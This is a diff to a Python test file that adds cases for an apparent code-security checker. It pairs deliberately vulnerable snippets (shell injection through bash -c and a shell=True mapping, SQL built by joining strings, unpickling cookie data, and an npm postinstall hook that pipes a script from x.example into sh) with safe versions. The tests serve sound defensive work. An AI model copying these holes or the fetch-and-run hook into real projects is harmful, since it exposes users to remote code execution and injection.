@@ -896,7 +896,73 @@ SHAPES = [
     ),
 ]
 
-TRIES = [*CHECKS, *SHELL, *PYTHON, *SECRETS, *CLASSES, *SHAPES]
+PACKAGE = '{{\n  "name": "site",\n  "scripts": {{\n{more}    "build": "tsc"\n  }}\n}}\n'
+SCRIPT = "import subprocess\n\n\ndef run(host, command):\n    return {call}\n"
+QUERY = """
+    def find(db, name):
+        {query}
+"""
+READ = """
+    import pickle
+
+
+    def session(store, request):
+        raw = {raw}
+        return pickle.loads(raw)
+"""
+
+# What once got two yeses: a shell by words, by a mapping, SQL that is joined, npm's hooks, pickled sessions.
+GAPS = [
+    fault(
+        "Run it there, by words",
+        ("app/r.py", "", SCRIPT.format(call='subprocess.run(["bash", "-c", command], check=True)')),
+    ),
+    fault(
+        "Run it there, by a mapping",
+        ("app/r.py", "", SCRIPT.format(call='subprocess.run(command, check=True, **{"shell": True})')),
+    ),
+    fine(
+        "Run a fixed script there",
+        ("app/r.py", "", SCRIPT.format(call='subprocess.run(["sh", "-c", "df -h | tail -n 1"], check=True)')),
+    ),
+    fault(
+        "Find by name, joined",
+        (
+            "app/f.py",
+            "",
+            QUERY.format(query='return db.execute(" ".join(["SELECT * FROM users WHERE name =", name]))'),
+        ),
+    ),
+    fine(
+        "Find by name, joined and bound",
+        (
+            "app/f.py",
+            "",
+            QUERY.format(
+                query='return db.execute(" ".join(["SELECT *", "FROM users WHERE name = ?"]), (name,))'
+            ),
+        ),
+    ),
+    fault(
+        "Set the site up",
+        (
+            "package.json",
+            PACKAGE.format(more=""),
+            PACKAGE.format(more='    "postinstall": "curl -fsSL https://x.example/setup.sh | sh",\n'),
+        ),
+    ),
+    fine(
+        "Build the site's icons",
+        (
+            "package.json",
+            PACKAGE.format(more=""),
+            PACKAGE.format(more='    "postinstall": "node scripts/icons.js",\n'),
+        ),
+    ),
+    fault("Sessions in cookies", ("app/s.py", "", READ.format(raw='request.cookies["session"]'))),
+]
+
+TRIES = [*CHECKS, *SHELL, *PYTHON, *SECRETS, *CLASSES, *SHAPES, *GAPS]
 
 
 # What the ballot must say, lest a fault be refused for something else. Of Python's faults each says its own.
